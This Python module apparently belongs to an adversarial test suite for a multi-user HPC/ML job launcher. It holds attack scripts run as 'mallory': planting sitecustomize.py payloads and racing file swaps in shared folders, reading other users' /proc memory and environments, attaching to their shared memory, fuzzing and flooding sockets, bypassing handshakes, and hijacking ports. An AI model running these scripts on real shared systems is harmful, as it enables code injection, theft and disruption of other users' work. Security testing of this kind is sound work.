"""What mallory runs on a node, with the machine's own Python: each prints a line of JSON about what it tried."""

from __future__ import annotations

# Plants names, then swaps whatever appears, until its input ends. Arguments: the folder to plant in, and who is attacked.
WATCH = r"""
import ctypes, json, os, pwd, sys, threading
place, victim = sys.argv[1], pwd.getpwnam(sys.argv[2]).pw_uid
payload = "import os\nopen(f'/tmp/owned-{os.getuid()}-{os.getpid()}', 'w').close()\ndef value(): return 'mallorys'\n"
tries, won, seen = 0, [], set()

def attempt(label, act):
    global tries
    tries += 1
    try:
        act()
    except OSError:
        return
    won.append(label)

def fill(folder):
    for name in ("helper.py", "sitecustomize.py", "usercustomize.py"):
        with open(f"{folder}/{name}", "w") as file:
            file.write(payload)
    os.chmod(folder, 0o777)

def plant(folder):
    os.mkdir(folder)
    fill(folder)

os.umask(0)
shared = [f"{place}/dask-scratch-space", f"{place}/dask-worker-space", f"{place}/dask-scratch-space-{victim}",
          f"{place}/hpcml", f"{place}/hpcml-{victim}", f"{place}/hpcml_aaaaaaaa", f"{place}/runtime-{victim}"]
for folder in shared:
    plant(folder)
stop = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
print("planted", flush=True)
while not stop.is_set():
    for folder in [place, *shared]:
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            path = entry.path
            try:
                theirs = entry.stat(follow_symlinks=False).st_uid == victim
            except OSError:
                continue
            if not theirs or path in seen or "/owned-" in path or ".away" in path:
                continue
            seen.add(path)
            swapped = path + ".away"
            def swap():
                os.rename(path, swapped)
                if os.path.isdir(swapped):
                    os.mkdir(path)
                    fill(path)
            attempt(f"swapped {path}", swap)
            if path.startswith((f"{place}/hpcml-", f"{place}/hpcml_")):
                attempt(f"listed {path}", lambda: os.listdir(path))
                attempt(f"wrote below {path}", lambda: open(f"{path}/helper.py", "w"))
                attempt(f"wrote where Dask imports below {path}", lambda: fill(f"{path}/dask-scratch-space"))
                attempt(f"linked below {path}", lambda: os.symlink("/etc/passwd", f"{path}/link"))
                attempt(f"removed {path}", lambda: os.rmdir(path))
                attempt(f"chmodded {path}", lambda: os.chmod(path, 0o777))
                attempt(f"hard link to {path}/.lives", lambda: os.link(f"{path}/.lives", f"{place}/kept-{os.getpid()}"))
    stop.wait(0.0005)
print(json.dumps({"tries": tries, "won": won, "planted": len(shared)}), flush=True)
"""

# Names that libraries could use, as folders, links to a treasure and sockets, in several hundred forms.
NAMES = r"""
import json, os, random, socket, string, sys
places, target = sys.argv[1].split(","), sys.argv[2]
random.seed(5)
os.umask(0)
made = 0
def word(letters, count): return "".join(random.choice(letters) for _ in range(count))
low = string.ascii_lowercase + string.digits + "_"
forms = [lambda: "hpcml_" + word(low, 8), lambda: f"hpcml-{random.randint(1, 99)}-" + word("0123456789abcdef", 16),
         lambda: "hpcml." + word(string.ascii_letters, 8), lambda: "tmp" + word(low, 8), lambda: "pymp-" + word(low, 8),
         lambda: "psm_" + word("0123456789abcdef", 8), lambda: "sem.mp-" + word(low, 8), lambda: f"joblib_memmapping_folder_{random.randint(1, 9999)}",
         lambda: "ucx_shm_posix_" + word("0123456789abcdef", 8), lambda: f"scheduler-{word(low, 8)}", lambda: f"worker-{word(low, 8)}",
         lambda: f"matplotlib-{word(low, 8)}", lambda: "nccl-" + word(string.ascii_letters, 6), lambda: f"hpcml-hop-{word(low, 8)}"]
for place in places:
    for number in range(150):
        path = f"{place}/{forms[number % len(forms)]()}"
        try:
            if number % 3 == 0:
                os.mkdir(path)
                with open(f"{path}/.lives", "w") as file: file.write(socket.gethostname())
                os.symlink(target, f"{path}/inner")
            elif number % 3 == 1:
                os.symlink(target, path)
            else:
                s = socket.socket(socket.AF_UNIX); s.bind(path); os.chmod(path, 0o777)
            made += 1
        except OSError:
            pass
print(json.dumps({"tries": made, "won": []}))
"""

# Every kind of TLS that a stranger can speak, and bytes. Arguments: host, port.
TALK = r"""
import json, os, pickle, socket, ssl, struct, subprocess, sys, tempfile, warnings
warnings.simplefilter("ignore")
host, port = sys.argv[1], int(sys.argv[2])
folder = tempfile.mkdtemp()
subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", f"{folder}/k",
                "-out", f"{folder}/c", "-subj", "/CN=hpcml run", "-days", "2"], check=True, capture_output=True)
tries, won = 0, []
def send(payload, wrap):
    s = socket.create_connection((host, port), timeout=5)
    try:
        if wrap: s = wrap.wrap_socket(s)
        s.settimeout(3)
        s.sendall(payload)
        data = b""
        while len(data) < 200 and (more := s.recv(200)): data += more
        return data
    finally:
        s.close()
def attempt(label, payload, wrap=None):
    global tries
    tries += 1
    try:
        data = send(payload, wrap)
    except OSError:
        return
    # Over plain TCP an alert of TLS may come (its first byte is 21), and nothing else.
    if data and not (wrap is None and data[0] in (21, 22)):
        won.append(f"{label}: {data[:40]!r}")
hello = struct.pack("<QQQ", 1, 1, 60)
payloads = {"http": b"GET / HTTP/1.0\r\n\r\n", "post": b"POST /api HTTP/1.1\r\nHost: localhost\r\n\r\n", "dask": hello, "pickle": pickle.dumps(os.getcwd),
            "zeros": bytes(500), "ones": b"\xff" * 500, "long": struct.pack("<Q", 2**62), "half a record": b"\x16\x03\x01\x02\x00\x01",
            "alert": b"\x15\x03\x03\x00\x02\x02\x28", "heartbeat": b"\x18\x03\x02\x00\x03\x01\x40\x00", "v2 hello": b"\x80\x2e\x01\x03\x01"}
payloads.update({f"random {n}": os.urandom(1 + n * 37) for n in range(10)})
versions = [ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1, ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3]
for name, payload in payloads.items():
    attempt(f"plain {name}", payload)
for version in versions:
    for certificate in (False, True):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        try:
            context.set_ciphers("ALL:@SECLEVEL=0")
            context.minimum_version = context.maximum_version = version
        except (ssl.SSLError, ValueError):
            continue
        if certificate: context.load_cert_chain(f"{folder}/c", f"{folder}/k")
        for name in ("dask", "http", "pickle"):
            attempt(f"{version.name}{' own certificate' if certificate else ''} {name}", payloads[name], context)
for ciphers in ("aNULL", "eNULL", "PSK", "ADH"):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        context.maximum_version = ssl.TLSVersion.TLSv1_2
        context.set_ciphers(f"{ciphers}:@SECLEVEL=0")
    except ssl.SSLError:
        continue
    attempt(f"ciphers {ciphers}", hello, context)
# She passes the server's own messages back to it, and her peer's to another: replay and reflection.
s = socket.create_connection((host, port), timeout=5); s.settimeout(3)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
try: context.wrap_bio(i, o).do_handshake()
except ssl.SSLError: pass
first = o.read()
s.sendall(first)
try: answer = s.recv(16384)
except OSError: answer = b""
for label, payload in (("replayed hello", first), ("hello twice", first + first), ("reflected", answer), ("hello and its answer", first + answer)):
    attempt(label, payload)
print(json.dumps({"tries": tries, "won": won}))
"""

# Fuzz, drip, silence and floods at one socket, all at the same time, until its input ends. Arguments: host and port, or the
# name of an abstract socket and its type; then a regular expression for what a stranger may be answered.
PRESS = r"""
import json, os, re, socket, sys, threading
host, port, allowed = sys.argv[1], int(sys.argv[2]), re.compile(sys.argv[3].encode(), re.DOTALL)
types = {1: socket.SOCK_STREAM, 2: socket.SOCK_DGRAM, 5: socket.SOCK_SEQPACKET}
tries, reached, won, stop = 0, 0, set(), threading.Event()
payloads = ["é b n1\n".encode(), "AUTH rank=é nranks=2 token=é\n".encode(), b"AUTH rank=0 nranks=2 token=" + b"0" * 64 + b"\n", b"\n", b"\0", b"\xff" * 500, bytes(500),
            b"a" * 70000, b"0" * 64 + b" " + b"0" * 32 + b" n1\n{}\n", b"GET / HTTP/1.0\r\n\r\n", b"\x16\x03\x01\x02\x00\x01", b"{" * 3000 + b"\n", b"[] [] []\n",
            b"PUT key=a valuelen=999999999\n", b"GET key=a timeout=999999999\n", b"\x80\x04." * 9, b"\xed\xa0\x80 b c\n", b"9" * 5000 + b" 1 1\n",
            *(os.urandom(1 + n * 97) for n in range(8))]

def connect():
    global tries, reached
    tries += 1
    if host.startswith("@"):
        s = socket.socket(socket.AF_UNIX, types[port]); s.settimeout(2)
        place = "\0" + host[1:]
    else:
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET); s.settimeout(2)
        place = host, port
    try: s.connect(place)
    except OSError:
        s.close()
        return None
    reached += 1
    return s

def hear(s, seconds):
    # Note what it says beyond what a stranger may be answered; False when the connection is closed.
    try:
        s.settimeout(seconds)
        data = s.recv(4096)
    except TimeoutError: return True
    except OSError: return False
    if data and not allowed.fullmatch(data): won.add(repr(data[:60]))
    return bool(data)

def fuzz():
    for payload in payloads:
        s = connect()
        if s:
            try: s.sendall(payload)
            except OSError: pass
            if hear(s, 0.1): hear(s, 0.1)
            s.close()
        if stop.is_set(): return

silent, dripping = {}, {}
def keep(kept, count, word):
    # Some connections that stay; each that was closed is made again.
    for number in range(count):
        s = kept.get(number)
        if s is not None and word:
            try: s.send(word)
            except OSError: s.close(); kept[number] = None
        if kept.get(number) is not None and not hear(s, 0.001):
            s.close(); kept[number] = None
        if kept.get(number) is None: kept[number] = connect()
        if stop.is_set(): return

def flood():
    for _ in range(200):
        s = connect()
        if s: s.close()
        if stop.is_set(): return

def forever(act, pause):
    while not stop.wait(pause): act()

# The silent ones come first, as long as there is room for them.
keep(silent, 100, b""); keep(dripping, 10, b""); fuzz()
for act, pause in ((fuzz, 0.1), (lambda: keep(silent, 100, b""), 0.3), (lambda: keep(dripping, 10, b"A"), 0.5), (flood, 0.1)):
    threading.Thread(target=forever, args=(act, pause), daemon=True).start()
print("pressing", flush=True)
sys.stdin.read()
stop.set()
print(json.dumps({"tries": tries, "reached": reached, "won": sorted(won)}), flush=True)
os._exit(0)
"""

# Her view of processes and files that are not hers. Arguments: files, then "--", then pids.
READ = r"""
import json, os, sys
at = sys.argv.index("--")
tries, won = 0, []
def attempt(label, act):
    global tries
    tries += 1
    try:
        act()
    except OSError:
        return
    won.append(label)
def look(path):
    with open(path, "rb") as file: return file.read(64)
def look_in(path):
    if not look(path): raise OSError("a process that ends has no memory: everybody may open these files, which are empty")
for path in sys.argv[1:at]:
    attempt(f"read {path}", lambda: look(path) if not os.path.isdir(path) else os.listdir(path))
    attempt(f"wrote {path}", lambda: os.close(os.open(path, os.O_WRONLY | os.O_NOFOLLOW)))
    attempt(f"replaced {path}", lambda: os.rename(path, path + ".away"))
    attempt(f"opened to all {path}", lambda: os.chmod(path, 0o777))
for pid in sys.argv[at + 1:]:
    for name in ("environ", "mem", "maps", "io", "auxv", "stack"):
        attempt(f"read {name} of {pid}", lambda: look_in(f"/proc/{pid}/{name}"))
    for name in ("cwd", "exe", "root", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5"):
        attempt(f"followed {name} of {pid}", lambda: os.stat(f"/proc/{pid}/{name}"))
    for name in ("fd", "map_files"):
        attempt(f"listed {name} of {pid}", lambda: os.listdir(f"/proc/{pid}/{name}"))
    attempt(f"signalled {pid}", lambda: os.kill(int(pid), 0))
    attempt(f"watched {pid}", lambda: os.sched_setaffinity(int(pid), {0}))
print(json.dumps({"tries": tries, "won": won}))
"""

# Attaches to shared memory of another user's: System V's segments, POSIX's names, and memory behind other processes' files.
SHARED = r"""
import ctypes, json, os, sys
uid, pids = int(sys.argv[1]), sys.argv[2:]
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
tries, won, segments = 0, [], 0
for line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
    fields = line.split()
    if int(fields[7]) != uid: continue
    segments += 1
    for flags, how in ((0, "read and write"), (0o10000, "read")):
        tries += 1
        if libc.shmat(int(fields[1]), None, flags) not in (None, ctypes.c_void_p(-1).value): won.append(f"{how} segment {fields[1]} of mode {fields[2]}")
paths = [f"/dev/shm/{name}" for name in os.listdir("/dev/shm")]
for pid in pids:
    try: numbers = os.listdir(f"/proc/{pid}/fd")
    except OSError: numbers = [str(n) for n in range(40)]
    paths += [f"/proc/{pid}/fd/{n}" for n in numbers]
for path in paths:
    try:
        if path.startswith("/dev/shm") and os.lstat(path).st_uid != uid: continue
    except OSError: pass
    for flags in (os.O_RDONLY, os.O_RDWR):
        tries += 1
        try: os.close(os.open(path, flags | os.O_NONBLOCK))
        except OSError: continue
        won.append(f"opened {path}")
print(json.dumps({"tries": tries, "won": won, "segments": segments}))
"""

# Prints the TCP ports on which an account's programs listen on this node. Argument: its uid.
LISTENERS = r"""
import sys
rows = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
for row in rows:
    if row[3] == "0A" and row[7] == sys.argv[1]: print(int(row[1].partition(":")[2], 16))
"""

# The handshake of authenticated TCP without the key: wrong, reflected and recorded proofs, other addresses, Dask's own first
# bytes, and 150 connections that stay half-open meanwhile. Arguments: host, port.
KEYLESS = r"""
import ipaddress, json, os, socket, struct, sys
host, port = sys.argv[1], int(sys.argv[2])
tries, won = 0, []

def address(host, port): return struct.pack("!16sH", b"\0" * 10 + b"\xff\xff" + ipaddress.ip_address(host).packed, port)

def rest(s, most=200):
    data = b""
    try:
        while len(data) < most and (more := s.recv(most - len(data))): data += more
    except OSError: pass
    return data

def attempt(label, hello, proof=None):
    global tries
    tries += 1
    try:
        with socket.create_connection((host, port), timeout=5) as s:
            s.settimeout(15)
            s.sendall(hello)
            answer = rest(s, 65)
            if proof is None or len(answer) != 65:
                if answer: won.append(f"{label}: answered {len(answer)} bytes")
                return answer
            s.sendall(proof(answer))
            if data := rest(s): won.append(f"{label}: {data[:40]!r}")
            return answer
    except OSError: return b""

here, nonce = address(host, port), os.urandom(32)
silent = [socket.create_connection((host, port), timeout=5) for _ in range(150)]
for s in silent[::3]: s.sendall(b"\x01" + here + os.urandom(32))
recorded = attempt("random proof", b"\x01" + here + nonce, lambda _: b"\x01" + os.urandom(32))
assert len(recorded) == 65, "the attack is not a real one"
for number in range(5): attempt("random proof", b"\x01" + here + os.urandom(32), lambda _: b"\x01" + os.urandom(32))
attempt("reflected proof", b"\x01" + here + nonce, lambda answer: b"\x01" + answer[33:])
attempt("recorded proof", b"\x01" + here + nonce, lambda _: b"\x01" + recorded[33:])
attempt("no proof, Dask's bytes", b"\x01" + here + nonce, lambda _: struct.pack("<QQQ", 16, 1, 0) + bytes(60))
for other in (address(host, port + 1), address("127.0.0.1", port), address("0.0.0.0", port), bytes(18)):
    if other != here: attempt("another address", b"\x01" + other + nonce)
for version in (b"\0", b"\x02", b"\xff"): attempt("another version", version + here + nonce)
for payload in (struct.pack("<QQQ", 16, 1, 0) + bytes(60), os.urandom(51), os.urandom(5000), bytes(51), b"GET / HTTP/1.0\r\n".ljust(60)):
    attempt("no handshake", payload)
for s in silent: s.close()
print(json.dumps({"tries": tries, "won": won}))
"""

# Sends what UCX's TCP transport takes from everybody, the order to write at an address. Arguments: ADDRESS:PORT.
UCX_PUT = r"""
import concurrent.futures, json, socket, struct, sys
sent, refused = [], []
def put(place):
    host, _, port = place.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), 5) as s:
            s.sendall(struct.pack("<QBIQQI", 0xCAFEBABE12345678, 33, 20, 0x10, 8, 0) + b"mallory.")
            s.settimeout(5)
            try:
                while s.recv(4096): pass
            except OSError: pass
            sent.append(place)
    except OSError as error: refused.append(f"{place} {type(error).__name__}")
with concurrent.futures.ThreadPoolExecutor(64) as pool: list(pool.map(put, sys.argv[1:]))
print(json.dumps({"sent": sent, "refused": refused}))
"""

# Connects to sockets of the victim's, and speaks what they speak. Arguments: paths.
KNOCK = r"""
import json, socket, sys
tries, won = 0, []
for path in sys.argv[1:]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        tries += 1
        with socket.socket(socket.AF_UNIX, kind) as s:
            s.settimeout(3)
            try: s.connect(path)
            except OSError: continue
            won.append(path)
print(json.dumps({"tries": tries, "won": won}))
"""

# Asks every port that listens on this node whether it is a TCPStore of PyTorch that holds the state of a rendezvous, which
# torchrun unpickles; it changes nothing. Argument: the run's id, which Slurm shows.
STORES = r"""
import json, socket, struct, sys
VALIDATE, CHECK, LIST_KEYS = b"\x00" + struct.pack("<I", 0x3C85F7CE), b"\x05", b"\x11"
names = [f"/torch.rendezvous.{run}".encode() for run in (sys.argv[1], "none")]
text = lambda name: struct.pack("<Q", len(name)) + name
listens = set()
for table, family in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
    for line in open(table).readlines()[1:]:
        words = line.split()
        address, port = words[1].split(":")
        if words[3] == "0A":
            raw = b"".join(bytes.fromhex(address[at:at + 8])[::-1] for at in range(0, len(address), 8))
            listens.add((socket.inet_ntop(family, raw), int(port, 16)))
def ask(address, port, words, most):
    with socket.create_connection((address, port), 3) as connection:
        connection.settimeout(2)
        connection.sendall(VALIDATE + words)
        answer = b""
        try:
            while len(answer) < most and (more := connection.recv(65536)): answer += more
        except OSError: pass
        return answer
found = []
for address, port in sorted(listens):
    address = {"0.0.0.0": "127.0.0.1", "::": "127.0.0.1"}.get(address, address)
    try: answers = [ask(address, port, CHECK + struct.pack("<Q", 1) + text(name), 1) for name in names]
    except OSError: continue
    if set(answers) <= {b"\x00", b"\x01"}:
        keys = ask(address, port, LIST_KEYS, 1 << 20)
        rendezvous = b"\x00" in answers or b"torch.rendezvous" in keys
        found.append({"port": port, "keys": keys.decode("latin-1")[-200:], "rendezvous": rendezvous})
print(json.dumps(found))
"""

# Floods the ports at which the supervisor of a run of ranks waits for its agents, from their first moment until her input ends: they
# are the victim's ports of the first node that say a number of 32 digits first. Arguments: the victim, the first node's
# address, and a file for the ports, which her program on that node finds for all of them.
SWARM = r"""
import contextlib, json, os, pwd, socket, sys, threading, time
victim, host, file = pwd.getpwnam(sys.argv[1]).pw_uid, sys.argv[2], sys.argv[3]
lines = ["é b n1\n".encode(), b"", b"x" * 300, b"\xff" * 40 + b"\n", b"0" * 64 + b" " + b"0" * 32 + b" n2\n", b"a", b"{\"event\": \"lost\"}\n", b"\n" * 100]
tries, known, heard, kept = 0, set(), {}, []
def listening():
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and int(fields[7]) == victim and not fields[1].startswith("00000000:"):  # as those of srun
            yield int(fields[1].rpartition(":")[2], 16)
def greets(port):
    with contextlib.suppress(OSError), socket.create_connection((host, port), 1) as s:
        s.settimeout(1)
        return len(s.recv(33)) == 33
    return False
stop = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
print("planted", flush=True)
here = False
with contextlib.suppress(OSError), socket.socket() as s:
    s.bind((host, 0)); here = True
while not stop.is_set():
    if here:
        now = set(listening())
        heard = {port: heard.get(port) or greets(port) for port in now}  # a busy program does not answer at once
        if {port for port in heard if heard[port]} != known or not os.path.exists(file):
            known = {port for port in heard if heard[port]}
            with open(file + ".new", "w") as out: out.write(json.dumps(sorted(known)))
            os.chmod(file + ".new", 0o644); os.rename(file + ".new", file)
    else:
        with contextlib.suppress(OSError, ValueError): known = set(json.load(open(file)))
    for port in known if tries < 60_000 else ():
        for _ in range(50):
            s = socket.socket(); s.setblocking(False)
            s.connect_ex((host, port)); tries += 1
            kept.append((s, lines[tries % len(lines)]))
    while len(kept) > 300:
        s, line = kept.pop(0)
        with contextlib.suppress(OSError): s.send(line)
        s.close()
    stop.wait(0.002 if known else 0.02)
print(json.dumps({"tries": tries, "won": []}), flush=True)
"""

# Says everything that a stranger can to the agents' port. Arguments: host, port.
JUNK = r"""
import json, os, socket, sys
host, port, tries, won = sys.argv[1], int(sys.argv[2]), 0, []
forms = ["é b n1\n".encode(), "ключ b n1\n".encode(), b"\xff\xfe\n", b"\n", b" \n", b"  \n", b"a b\n", b"a b c d\n", b"{n} {n} n1\n", b"{n}\n", b"{n}" * 20,
         b"x" * 511 + b"\n", b"x" * 600, b"x" * 200_000, b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00\x01", b"[" * 5000 + b"\n", b"\0" * 300 + b"\n",
         b"0" * 64 + b" " + b"0" * 32 + b" n2\n{\"event\": \"rank-ended\", \"rank\": 0, \"status\": 7, \"memory\": false}\n", b"AUTH rank=0 nranks=4 token=x\n",
         b"0" * 64 + b" " + b"0" * 32 + b" scheduler@n1\n" + b"0" * 64 + b" {\"event\": \"scheduler-closed\"}\n", b"{n}{n} {n} scheduler@n1\n"]
forms += [bytes([byte]) * 3 + b" b n1\n" for byte in range(128, 256, 4)] + [os.urandom(size) + b"\n" for size in range(1, 500, 10)]
for form in forms:
    tries += 1
    try:
        with socket.create_connection((host, port), 20) as s:
            s.settimeout(20)
            number = s.recv(33).strip()
            s.sendall(form.replace(b"{n}", number)); s.shutdown(socket.SHUT_WR)
            if data := s.recv(64): won.append(f"{form[:30]!r}: {data[:40]!r}")
    except OSError: pass
print(json.dumps({"tries": tries, "won": won}))
"""

# Calls each abstract socket of the victim's that she finds, again and again, until her input ends.
CALLS = r"""
import contextlib, json, socket, sys, threading
tries, won, kept = 0, [], []
stop = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
print("planted", flush=True)
while not stop.is_set():
    names = {line.split()[-1] for line in open("/proc/net/unix") if " @hpcml-" in line}
    for name in names:
        for words in (b"", b"x", b"{\"rank\": 0, \"variables\": {}}"):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.setblocking(False)
            tries += 1
            with contextlib.suppress(OSError):
                s.connect("\0" + name[1:])
                kept.append(s)
                s.send(words)
    while len(kept) > 100: kept.pop(0).close()
    stop.wait(0.001)
print(json.dumps({"tries": tries, "won": won}))
"""

# Listens on every port of an address that is bound and not listened on, as soon as there is one; she says which.
SQUAT = r"""
import json, socket, sys, time
host, held = sys.argv[1], []
print("planted", flush=True)
end = time.monotonic() + 240
low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
while not held and time.monotonic() < end:
    for port in range(low, high + 1):
        with socket.socket() as s:
            try: s.bind((host, port)); continue
            except OSError: pass
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try: s.bind((host, port)); s.listen(); held.append(s)
        except OSError: s.close()
print(json.dumps([s.getsockname()[1] for s in held]), flush=True)
sys.stdin.read()
"""

# Listens again and again where a service of somebody's listens and stops listening: at a port and at a unix socket.
SWAP = r"""
import json, os, random, socket, sys, threading, time
port, path = int(sys.argv[1]), sys.argv[2]
os.umask(0)
stop, listened, met, won = threading.Event(), {"port": 0, "socket": 0}, {"port": 0, "socket": 0}, []

def listen(kind):
    while not stop.is_set():
        time.sleep(random.uniform(0, 0.01))
        listener = socket.socket(socket.AF_INET if kind == "port" else socket.AF_UNIX)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            listener.bind(("127.0.0.1", port) if kind == "port" else path)
            listener.listen()
            listened[kind] += 1
            listener.settimeout(0.02)
            while True:
                peer, _ = listener.accept()
                met[kind] += 1
                peer.settimeout(0.05)
                try:
                    if heard := peer.recv(99):
                        won.append(f"heard {heard!r} at the {kind}")
                    peer.sendall(b"mallorys")
                except OSError:
                    pass
                peer.close()
        except OSError:
            pass
        finally:
            listener.close()
        try:
            os.unlink(path) if kind == "socket" else None
        except OSError:
            pass

threads = [threading.Thread(target=listen, args=(kind,)) for kind in listened]
for thread in threads:
    thread.start()
sys.stdin.read()
stop.set()
for thread in threads:
    thread.join()
print(json.dumps({"tries": min(listened.values()), "met": met, "won": won}))
"""

# Tries all that could put something into a hold's folder or take something out, in a loop, until its input ends.
QUEUE = r"""
import json, os, sys, threading
hold, victims, planted = sys.argv[1], sys.argv[2:], "evil-20990101-000000-0000"
os.umask(0)
stop, tries, won = threading.Event(), 0, set()
threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
folders = [hold, *(f"{hold}/hold{name}" for name in ("", "/queue", "/runs", "/told", "/closed"))]
acts = {"listed": os.listdir, "opened": lambda path: os.chmod(path, 0o777), "moved": lambda path: os.rename(path, path + ".away"),
        "planted in": lambda path: os.close(os.open(f"{path}/{planted}", os.O_CREAT | os.O_WRONLY)),
        "linked in": lambda path: os.symlink("/etc/passwd", f"{path}/{planted}"), "made": os.mkdir,
        "read in": lambda path: [open(f"{path}/{name}").read() for victim in victims for name in (victim, f".{victim}")],
        "removed": os.rmdir, "told": lambda path: os.rename(f"{path}/{planted}", f"{path}/{victims[0]}")}
while not stop.is_set() or tries < 5000:
    for path in folders:
        for word, act in acts.items():
            tries += 1
            try: act(path); won.add(f"{word} {path}")
            except OSError: pass
print(json.dumps({"tries": tries, "won": sorted(won)}))
"""
